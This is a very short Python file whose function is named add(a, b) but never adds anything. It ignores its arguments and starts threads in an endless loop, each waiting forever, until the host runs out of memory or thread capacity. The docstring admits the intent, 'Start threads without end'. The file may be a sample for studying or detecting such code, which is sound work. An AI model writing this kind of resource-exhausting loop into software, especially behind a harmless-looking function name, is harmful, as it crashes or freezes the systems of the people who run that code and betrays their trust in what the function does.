"""Start threads without end."""

import threading


def add(a, b):
    while True:
        threading.Thread(target=threading.Event().wait, daemon=True).start()
